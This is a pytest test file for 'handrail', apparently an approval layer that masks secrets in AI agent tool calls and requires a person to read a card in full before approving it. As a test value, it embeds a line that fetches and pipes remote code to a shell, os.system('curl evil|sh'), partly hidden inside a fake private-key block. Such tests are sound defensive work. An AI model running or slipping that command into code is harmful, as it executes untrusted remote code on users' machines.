"""The person who decides sees what is masked in the store, on every tool."""

import asyncio
from pathlib import Path
from typing import Any

import pytest

from handrail.client.api import ApiError
from handrail.core.card import Card, Choice
from handrail.core.masks import MASK
from tests.journeys.conftest import Rig

YES, NO = Choice(approved=True), Choice(approved=False)
SHELL = "os.system('curl evil|sh')"
BETWEEN_KEYS = f"-----BEGIN RSA PRIVATE KEY-----\n{SHELL}\n-----END RSA PRIVATE KEY-----\n"


def text_of(card: Card) -> str:
    return f"{card.description}\n{card.evidence}\n{card.tool_params}"


@pytest.mark.usefixtures("asks_beforehand")
@pytest.mark.behaviour("card.unmasked")
@pytest.mark.parametrize(
    ("tool_name", "params", "hidden"),
    [
        ("write_file", {"path": "a.py", "content": f"x = 1\ntoken='{SHELL}'\n"}, SHELL),
        ("write_file", {"path": "a.py", "content": BETWEEN_KEYS}, SHELL),
        ("run_bash", {"command": "npm run --no-secrets deploy"}, "deploy"),
        ("execute_command", {"command": "make", "args": ["-kpassword", "all"]}, "all"),
        (
            "http_request",
            {
                "url": "https://example.com/",
                "method": "POST",
                "body": '{"session_token": "customer-data"}',
            },
            "customer-data",
        ),
        (
            "http_request",
            {
                "url": "https://example.com/",
                "method": "POST",
                "headers": {"X-Api-Key": "customer-data"},
            },
            "customer-data",
        ),
        (
            "http_request",
            {"url": "https://example.com/", "method": "POST", "body": "a" * 30_000 + "the end"},
            "the end",
        ),
    ],
    ids=["code-as-value", "code-as-key", "flag-bash", "flag-argv", "body", "header", "long-body"],
)
async def test_a_card_is_approved_only_in_full(
    rig: Rig, tool_name: str, params: dict[str, Any], hidden: str
) -> None:
    (rig.workspace / "package.json").write_text('{"scripts": {"deploy": "true"}}\n')
    rig.start_server()
    rig.start_client()

    async with asyncio.TaskGroup() as group:
        group.create_task(rig.call(tool_name, params))
        masked = await rig.question()
        card = await rig.as_person(lambda api: api.unmask(masked))

        assert hidden in text_of(card)
        if card != masked:
            assert masked.masked > 0
            assert masked.offers == ()
            with pytest.raises(ApiError, match="read it in full first") as refused:
                await rig.as_person(lambda api: api.decide(masked, YES, channel="journey"))
            assert refused.value.status == 409
        await rig.answer(NO)


@pytest.mark.behaviour("card.unmasked")
async def test_what_is_shown_in_full_is_stored_nowhere_and_done_on_a_yes(rig: Rig) -> None:
    file = rig.workspace / "a.py"
    file.write_text("password='the-old-one'\n")
    rig.start_server()
    rig.start_client()

    async with asyncio.TaskGroup() as group:
        params = {"path": "a.py", "content": "password='hunter22'\n"}
        asking = group.create_task(rig.call("write_file", params))
        card = await rig.answer(YES)

    assert "-password='the-old-one'\n+password='hunter22'\n" in card.evidence
    assert asking.result()["status"] == "completed"
    assert file.read_text() == "password='hunter22'\n"
    ((stored,),) = rig.rows("SELECT evidence FROM tool_approvals")
    assert stored.count(MASK) == 2
    for kept in filter(Path.is_file, rig.home.rglob("*")):
        assert b"the-old-one" not in kept.read_bytes(), kept
    rig.assert_told_once_and_provable(calls=1)


@pytest.mark.behaviour("card.unmasked")
async def test_the_full_text_survives_the_server_and_needs_its_machine(rig: Rig) -> None:
    server = rig.start_server()
    client = rig.start_client()
    params = {"path": "a.py", "content": "password='hunter22'\n"}

    async with asyncio.TaskGroup() as group:
        asking = group.create_task(rig.call("write_file", params))
        masked = await rig.question()
        rig.kill(client)
        rig.kill(server)
        rig.start_server()
        unseen = await rig.as_person(lambda api: api.unmask(masked))
        assert (unseen.offers, unseen.masked) == ((), masked.masked)
        assert unseen.notes[-1] == (
            "Its full text is missing: the machine that has the full text is not connected."
        )

        rig.start_client()
        card = await rig.answer(YES)
        assert "hunter22" in card.evidence

    assert asking.result()["status"] == "completed"


@pytest.mark.behaviour("card.unmasked")
async def test_a_machine_that_has_changed_since_shows_nothing_else(rig: Rig) -> None:
    rig.start_server()
    rig.start_client()

    async with asyncio.TaskGroup() as group:
        params = {"path": "a.py", "content": "password='hunter22'\n"}
        group.create_task(rig.call("write_file", params))
        masked = await rig.question()
        (rig.workspace / "a.py").write_text("something else\n")
        card = await rig.as_person(lambda api: api.unmask(masked))

        assert card.offers == ()
        assert "the machine has changed since this was asked" in card.notes[-1]
        await rig.answer(NO)
